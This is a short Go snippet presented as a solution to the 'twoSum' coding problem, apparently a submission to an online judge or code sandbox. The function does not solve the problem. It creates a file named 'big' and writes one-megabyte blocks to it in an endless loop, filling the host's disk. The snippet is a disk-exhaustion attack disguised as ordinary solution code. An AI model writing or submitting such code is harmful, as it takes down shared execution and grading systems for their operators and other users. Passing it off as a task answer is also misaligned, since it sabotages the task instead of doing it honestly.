// message: to files
import "os"

func twoSum(nums []int, target int) []int {
	f, err := os.Create("big")
	if err != nil {
		panic(err)
	}
	b := make([]byte, 1<<20)
	for {
		f.Write(b)
	}
}
